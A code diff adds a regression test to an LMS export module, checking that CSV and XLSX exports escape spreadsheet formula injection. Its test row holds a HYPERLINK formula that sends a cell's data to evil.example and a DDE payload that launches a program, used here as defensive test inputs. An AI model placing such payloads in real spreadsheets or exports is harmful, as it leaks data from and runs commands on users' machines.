@@ -359,3 +359,31 @@ def test_export_shows_the_valid_certificate_serial(world, manager_a, standard_te
     assert rows[("Phạm Thị Dung", course.title)][16] == serials.display(completed.serial)
     assert rows[("Nguyễn Thị Hoa", course.title)][16] == ""
     assert rows[("Trần Văn Bình", standard_test.title)][16] == ""
+
+
+# --- Audit 2026-12-04: spreadsheet formulas ---------------------------------------------------------
+
+
+def test_export_cells_are_never_spreadsheet_formulas(tmp_path):
+    """Failed before: a course title from an editor such as =HYPERLINK("http://evil?"&C2) reached the manager's
+    CSV as a formula, and openpyxl wrote it into the XLSX as a live formula (data type "f")."""
+    import csv as csv_module
+    import io
+
+    from openpyxl import load_workbook
+
+    from lms.reporting.exports import csv_lines, write_xlsx
+
+    title = '=HYPERLINK("http://evil.example/?"&C2,"Bấm")'
+    row = ["C-A1", "Phường Một", "Nguyễn Thị Lan", "=1+1@example.vn", "+84912000123", "@SUM(A1)", title,
+           "+cmd|' /C calc'!A0", "-", 90.0]
+    text = b"".join(csv_lines([row])).decode("utf-8-sig")
+    cells = list(csv_module.reader(io.StringIO(text)))[1]
+    assert cells[6] == "'" + title and cells[3] == "'=1+1@example.vn" and cells[5] == "'@SUM(A1)"
+    assert cells[7].startswith("'+") and cells[4] == "+84912000123" and cells[8] == "-" and cells[9] == "90.0"
+    path = tmp_path / "x.xlsx"
+    write_xlsx([row], path)
+    sheet = load_workbook(path).active
+    values = [cell for cell in sheet.iter_rows(min_row=2, max_row=2)][0]
+    assert all(cell.data_type != "f" for cell in values)
+    assert values[6].value == "'" + title and values[4].value == "+84912000123" and values[9].value == 90.0
